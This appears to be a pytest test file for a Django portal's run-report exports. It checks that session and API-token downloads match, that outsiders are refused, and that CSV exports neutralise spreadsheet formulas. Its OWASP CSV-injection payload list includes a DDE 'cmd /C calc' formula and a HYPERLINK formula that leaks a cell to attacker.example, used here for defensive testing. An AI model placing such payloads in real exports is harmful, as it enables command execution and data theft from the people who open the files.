"""Exports from the report page (issue 15, item 6): the REST API's own files, through the session.

The report links to ``/api/v1/runs/<code>/pages.csv``, ``series.csv``, ``summary.json`` (and
``junit.xml``); the browser's session authenticates them, a script's API token does too, and
both must get the same bytes.
"""

import re

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from portal.accounts.services import token_create
from portal.runs import selectors
from portal.runs.exports.pages_csv import pages_csv
from portal.runs.exports.series_csv import series_csv
from tests.portal.runs.test_store import PROFILES, _finish, _record

pytestmark = pytest.mark.django_db

EXPORTS = ("pages.csv", "series.csv", "summary.json", "junit.xml")


@pytest.fixture
def finished(run):
    return _finish(_record(run, PROFILES["constant"]))


def _export_links(html: str) -> dict[str, str]:
    section = html.split('id="exports"', 1)[1].split("</p>", 1)[0]
    links = re.findall(r'<a [^>]*download href="([^"]+)"', section)
    return {link.rsplit("/", 1)[1]: link for link in links}


def test_the_report_links_the_apis_files_and_the_session_gets_the_tokens_bytes(alice, team, alice_client, finished):
    page = alice_client.get(finished.get_absolute_url())
    assert page.status_code == 200
    links = _export_links(page.content.decode())
    assert sorted(links) == sorted(EXPORTS)

    secret = token_create(user=alice, team=team, name="ci", scope="read")[1]
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {secret}")
    for name, link in links.items():
        assert link == f"/api/v1/runs/{finished.code}/{name}"
        by_session = alice_client.get(link)
        by_token = api.get(link)
        assert by_session.status_code == by_token.status_code == 200, name
        assert by_session.content == by_token.content, name
        assert by_session["Content-Type"] == by_token["Content-Type"]
        assert f"plimsoll-run-{finished.number}" in by_session["Content-Disposition"]

    # And they are the report's own figures, not some other computation.
    assert alice_client.get(links["pages.csv"]).content.decode() == pages_csv(finished)
    series = series_csv(selectors.run_series(finished))
    assert alice_client.get(links["series.csv"]).content.decode() == series
    assert alice_client.get(links["summary.json"]).json()["summary"] == finished.summary


def test_a_viewer_downloads_and_an_outsider_gets_404(bob_client, finished, charlie):
    link = reverse("api:run-pages-csv", args=[finished.code])
    assert bob_client.get(link).status_code == 200
    bob_client.force_login(charlie)
    assert bob_client.get(link).status_code == 404


def test_an_active_run_offers_no_exports_yet(alice_client, run):
    html = alice_client.get(run.get_absolute_url()).content.decode()
    assert 'id="exports"' not in html


# OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), as page labels
# from an imported JTL, a HAR or a step name (issue 30, item 3).
OWASP_PAYLOADS = [
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!E1",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "\t=1+2",
    "\r=1+2",
    "Search\r=1+2",  # a lone carriage return must not end the row and start a new one with a formula
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers(finished):
    import csv
    import io

    # given: pages labelled with the OWASP payloads, and negative figures (as a clock skew can give)
    pages = finished.summary["pages"]
    template = pages[0]
    finished.summary["pages"] = [
        {**template, "label": payload, "apd_ms": -1.5, "pages": -3} for payload in OWASP_PAYLOADS
    ] + [{**template, "label": "-12.5", "apd_ms": 12.5}]

    # when
    rows = list(csv.DictReader(io.StringIO(pages_csv(finished), newline="")))

    # then: each payload is read back as text behind a quote, whole (no cell split off), never as a formula
    labels = [row["label"] for row in rows]
    assert labels[:-1] == [payload if payload.startswith("Search") else "'" + payload for payload in OWASP_PAYLOADS]
    assert not any(label.startswith(("=", "+", "-", "@", "\t", "\r")) for label in labels[:-1])
    # numbers are numbers: negative figures and a label that is a plain number are written as they are
    assert [(row["apd_ms"], row["pages"]) for row in rows[:-1]] == [("-1.5", "-3")] * len(OWASP_PAYLOADS)
    assert labels[-1] == "-12.5"


def test_the_csv_cell_rule():
    from portal.csvsafe import cell

    numbers = [-1, -2.5, 0, None, "-3", "+4.5", "-1e-3", ".5"]
    assert [cell(v) for v in numbers] == numbers
    assert [cell(v) for v in ("=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "-", "- 3")] == [
        "'=A1", "'+A1", "'-A1", "'@A1", "'\tA1", "'\rA1", "'-", "'- 3"
    ]  # fmt: skip
    assert [cell(v) for v in ("Home", "a=b", " =A1", "Search: -x")] == ["Home", "a=b", " =A1", "Search: -x"]


def test_every_csv_export_neutralises_the_owasp_payloads(finished):
    """Every CSV format of the registry (pages, series, protocols, levels, and any added later), not only pages.csv."""
    import csv
    import io

    from portal.runs.exports import FORMATS

    # given: page labels and protocol rows labelled with the payloads
    template = finished.summary["pages"][0]
    finished.summary["pages"] = [{**template, "label": payload} for payload in OWASP_PAYLOADS]
    finished.summary["protocols"] = {
        "pages": [{"label": payload, "protocols": {"h2": 3}, "h2_share_pct": -0.5} for payload in OWASP_PAYLOADS]
    }
    # and the levels table's windows (a steps run's, labelled by the plan) too
    finished.summary["windows"] = [
        {"label": payload, "start": 10 * i, "end": 10 * i + 10, "totals": {"users": i + 1, "apd_ms": 5.0}}
        for i, payload in enumerate(OWASP_PAYLOADS)
    ]
    finished.save(update_fields=["summary"])
    csv_formats = [fmt for fmt in FORMATS.values() if fmt.media_type == "text/csv"]
    assert {fmt.file_name for fmt in csv_formats} >= {"pages.csv", "series.csv", "protocols.csv", "levels.csv"}

    for fmt in csv_formats:
        # when
        rows = list(csv.reader(io.StringIO(fmt.render(finished), newline="")))

        # then: no cell a spreadsheet would run, each payload whole in one cell, numbers as written
        cells = [c for row in rows for c in row]
        formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _plain_number(c)]
        assert formulas == [], fmt.file_name
        if fmt.file_name != "series.csv":  # the per-second series has no text cell
            expected = [p if p.startswith("Search") else "'" + p for p in OWASP_PAYLOADS]
            assert [row[0] for row in rows[1:]] == expected, fmt.file_name
        if fmt.file_name == "protocols.csv":
            assert all("-0.5" in row for row in rows[1:])


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_is_written_around_csvsafe():
    """Every CSV writer in the portal goes through portal.csvsafe (OWASP's rule), so a new one cannot forget it."""
    import ast
    from pathlib import Path

    import portal

    root = Path(portal.__file__).parent
    bypasses = []
    for path in root.rglob("*.py"):
        text = path.read_text()
        if path.name == "csvsafe.py" or "csv" not in text:
            continue
        for node in ast.walk(ast.parse(text, str(path))):
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imported = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and any(alias.name in ("writer", "DictWriter") for alias in node.names)
            )
            if attribute or imported:
                bypasses.append(f"{path.relative_to(root)}:{node.lineno}")
    assert bypasses == [], "write CSV through portal.csvsafe.writer/dict_writer"
